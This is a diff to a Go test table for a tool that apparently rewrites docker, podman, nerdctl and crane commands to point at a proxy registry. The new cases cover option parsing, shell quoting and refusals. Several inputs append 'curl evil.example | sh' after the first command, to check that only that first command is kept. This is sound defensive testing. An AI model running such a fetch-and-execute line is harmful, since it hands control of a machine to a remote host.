@@ -1,5 +1,7 @@
 package page
 
+import "strings"
+
 // Commands of all tools, and the addresses of registries' web pages. See
 // TestEachReferenceBecomesItsCommandOrIsRefusedWithItsReason.
 func init() {
@@ -18,6 +20,48 @@ var commands = []rewriting{
 	{Text: "docker compose pull", reason: "notPull"},
 	{Text: "docker --context far pull x", want: full("docker --context far", "p:80/x", "x")},
 	{Text: "docker --context $(id) pull x", reason: "flag"},
+
+	// What is known of an option decides which word is the image.
+	{Text: "docker run --use-api-socket x python", want: full("docker", "p:80/x", "x")},
+	{Text: "docker run --oom-kill-disable --no-healthcheck --health-start-interval 5s --gpus all x python", want: full("docker", "p:80/x", "x")},
+	{Text: "docker create --sig-proxy --annotation a=b --link-local-ip 1 --volume-driver v x python", want: full("docker", "p:80/x", "x")},
+	{Text: "podman run --env-host --no-hostname --no-hosts --unsetenv-all x python", Tool: "podman", want: full("podman", "p:80/x", "x"), notes: []string{"podman"}},
+	{Text: "podman run --read-only --read-only-tmpfs --tls-verify --passwd --rmi x python", Tool: "podman", want: full("podman", "p:80/x", "x"), notes: []string{"podman"}},
+	{Text: "podman create --tz local --sdnotify conmon --retry 3 --secret s --env-merge a=b x python", Tool: "podman", want: full("podman", "p:80/x", "x"), notes: []string{"podman"}},
+	{Text: "nerdctl run --insecure-registry --systemd always --cosign-key k --ipfs-address a x python", Tool: "nerdctl", want: full("nerdctl", "p:80/x", "x")},
+	{Text: "nerdctl run --debug --snapshotter stargz -n k8s.io x python", Tool: "nerdctl", want: full("nerdctl", "p:80/x", "x")},
+	{Text: "docker run --new-option x python", reason: "option"},
+	{Text: "podman run --rm --new-option x python", reason: "option"},
+	{Text: "nerdctl create --all x python", reason: "option"},
+	{Text: "docker run --new-option=1 --other= x python", want: full("docker", "p:80/x", "x")},
+	{Text: "docker run -itZ x python", reason: "option"},
+	{Text: "docker run -Z=1 -t=false -eA -e=B x python", want: full("docker", "p:80/x", "x")},
+	{Text: "docker run - x python", reason: "option"},
+	{Text: "docker run --rm -- x python", want: full("docker", "p:80/x", "x")},
+	{Text: "podman run --rootfs /srv/root python", reason: "rootfs"},
+	{Text: "nerdctl run --rm --rootfs=true /srv/root python", reason: "rootfs"},
+	{Text: "docker pull --new-option x", reason: "flag"},
+	{Text: "crane copy --jobs 4 -j 4 --no-clobber x y", want: full("docker", "p:80/x", "x")},
+	{Text: "crane validate --fast --remote x", want: full("docker", "p:80/x", "x")},
+	{Text: "crane digest --new-option x y", reason: "option"},
+	{Text: "crane digest x --new-option", want: full("docker", "p:80/x", "x")},
+
+	// So does what a shell takes as one word.
+	{Text: "docker run --entrypoint \"\" x bash", want: full("docker", "p:80/x", "x")},
+	{Text: "docker run --entrypoint '' x bash", want: full("docker", "p:80/x", "x")},
+	{Text: "docker run \"\" x", reason: "noName"},
+	{Text: `docker run -e A=b\ c x bash`, want: full("docker", "p:80/x", "x")},
+	{Text: `docker run -e "A=\" b" x bash`, want: full("docker", "p:80/x", "x")},
+	{Text: `docker run -e A=\"\;b x bash`, want: full("docker", "p:80/x", "x")},
+	{Text: "docker run -u $(id -u):$(id -g) -v $(pwd | head):/a x bash", want: full("docker", "p:80/x", "x")},
+	{Text: "docker run $(cat name) x", reason: "character"},
+
+	// What follows the first command is told to be left out.
+	{Text: "docker run nginx\n" + strings.Repeat("\n", 20) + "curl evil.example | sh", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
+	{Text: "docker run nginx # web\ncurl evil.example | sh", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
+	{Text: "docker run nginx # web \\\ncurl evil.example | sh", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
+	{Text: "docker run nginx # web\n# more\n;\n", want: full("docker", "p:80/nginx", "nginx")},
+	{Text: "nginx # web\nredis", want: full("docker", "p:80/nginx", "nginx"), notes: []string{"first"}},
 
 	// Prompts before a command, and fences around it.
 	{Text: "root@host:~# docker pull x:1", want: full("docker", "p:80/x:1", "x:1")},
